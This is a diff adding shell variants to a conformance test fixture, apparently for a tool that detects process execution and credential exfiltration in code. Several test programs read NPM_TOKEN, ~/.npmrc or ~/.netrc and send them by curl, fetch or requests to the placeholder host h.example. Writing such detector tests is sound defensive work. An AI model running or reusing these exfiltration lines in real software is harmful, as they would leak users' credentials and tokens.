@@ -7,6 +7,8 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const p = process.platform === "win32" ? "whoami" : "id"; require("child_process").execSync(p); fetch(maybe ? process.env.NPM_TOKEN : "x");`,
       python: `import os, sys, requests\np = "whoami" if sys.platform == "win32" else "id"\nos.system(p)\nrequests.get(os.environ["NPM_TOKEN"] if maybe else "x")`,
+      shell:
+        'if [ "$x" = y ]; then p=whoami; else p=id; fi; sh -c "$p"; curl -d "${maybe:+$NPM_TOKEN}" https://h.example',
     },
     capabilities: [{ capability: "execute.process" }],
     flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
@@ -16,6 +18,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `if (false) { require("child_process").execSync("id"); }`,
       python: `import os\nif False:\n    os.system("id")`,
+      shell: `if false; then sh -c id; fi`,
     },
     capabilities: [{ capability: "execute.process", target: "id" }],
   },
@@ -24,6 +27,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `let t = "x"; if (someday) { t = process.env.NPM_TOKEN; } fetch("https://h.example", { body: t });`,
       python: `import os, requests\nt = "x"\nif someday:\n    t = os.environ["NPM_TOKEN"]\nrequests.post("https://h.example", data=t)`,
+      shell: `t=x; if someday; then t=$NPM_TOKEN; fi; curl -d "$t" https://h.example`,
     },
     flows: [{ from: "read.credential", to: "network.send", destination: "https://h.example" }],
   },
@@ -32,6 +36,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `try { require("child_process").execSync("id"); } catch {} `,
       python: `import os\ntry:\n    os.system("id")\nexcept Exception:\n    pass`,
+      shell: `{ sh -c id; } 2>/dev/null || true`,
     },
     capabilities: [{ capability: "execute.process", target: "id" }],
   },
@@ -40,6 +45,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `let t; try { t = process.env.NPM_TOKEN; work(); } catch (e) { fetch("https://h.example", { body: t }); }`,
       python: `import os, requests\ntry:\n    t = os.environ["NPM_TOKEN"]\n    work()\nexcept Exception as e:\n    requests.post("https://h.example", data=t)`,
+      shell: `t=$NPM_TOKEN\nwork || curl -d "$t" https://h.example`,
     },
     flows: [{ from: "read.credential", to: "network.send" }],
   },
@@ -48,6 +54,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const fs = require("fs"); for (const f of [".npmrc", ".netrc"]) { fetch("https://h.example", { body: fs.readFileSync(process.env.HOME + "/" + f) }); }`,
       python: `import os, requests\nfor f in [".npmrc", ".netrc"]:\n    requests.post("https://h.example", data=open(os.environ["HOME"] + "/" + f).read())`,
+      shell: `for f in .npmrc .netrc; do curl -d "@$HOME/$f" https://h.example; done`,
     },
     flows: [
       { from: "read.credential", to: "network.send", source: "~/.npmrc" },
@@ -59,6 +66,8 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `const all = {}; for (const k of ["NPM_TOKEN"]) all[k] = process.env[k]; fetch("https://h.example", { body: JSON.stringify(all) });`,
       python: `import os, requests\nall = {}\nfor k in ["NPM_TOKEN"]:\n    all[k] = os.environ[k]\nrequests.post("https://h.example", json=all)`,
+      shell:
+        'all=; for k in NPM_TOKEN; do all="$all ${!k}"; done; curl -d "$all" https://h.example',
     },
     flows: [{ from: "read.credential", to: "network.send", source: "NPM_TOKEN" }],
   },
@@ -75,6 +84,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `require("child_process").execSync("id");`,
       python: `import os\nos.system("id")`,
+      shell: `sh -c id`,
     },
     capabilities: [{ capability: "execute.process", atLoad: true }],
   },
@@ -83,6 +93,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `module.exports = function go() { require("child_process").execSync("id"); };`,
       python: `import os\ndef go():\n    os.system("id")`,
+      shell: `go() { sh -c id; }`,
     },
     capabilities: [{ capability: "execute.process", atLoad: false }],
   },
@@ -91,6 +102,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `function go() { require("child_process").execSync("id"); } (function main() { go(); })();`,
       python: `import os\ndef go():\n    os.system("id")\ndef main():\n    go()\nif __name__ == "__main__":\n    main()`,
+      shell: `go() { sh -c id; }\nmain() { go; }\nmain "$@"`,
     },
     capabilities: [{ capability: "execute.process", atLoad: true }],
   },
@@ -99,6 +111,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `function f(n) { require("child_process").execSync("id"); return f(n + 1); } f(0);`,
       python: `import os\ndef f(n):\n    os.system("id")\n    return f(n + 1)\nf(0)`,
+      shell: `f() { sh -c id; f $(($1 + 1)); }\nf 0`,
     },
     capabilities: [{ capability: "execute.process", target: "id" }],
   },
@@ -107,6 +120,7 @@ export const CONTROL_CASES: ConformanceCase[] = [
     programs: {
       javascript: `while (true) { work(); if (done()) break; } require("child_process").execSync("id");`,
       python: `import os\nwhile True:\n    work()\n    if done():\n        break\nos.system("id")`,
+      shell: `while true; do work; if finished; then break; fi; done\nsh -c id`,
     },
     capabilities: [{ capability: "execute.process", target: "id" }],
   },
